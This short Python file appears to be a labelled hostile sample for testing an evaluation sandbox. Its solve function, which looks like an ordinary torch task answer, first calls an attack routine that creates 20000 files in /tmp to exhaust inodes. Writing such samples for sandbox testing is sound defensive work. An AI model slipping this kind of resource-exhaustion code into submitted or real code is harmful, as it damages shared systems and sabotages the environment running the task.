# hostile: family=disk verdict=runtime_error build=build_error lift=inodes shows=harm
"""Makes empty files until there are no inodes."""


def attack():
    for number in range(20000):
        open(f"/tmp/{number}", "w").close()
    print("harm: 20000 files", flush=True)


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
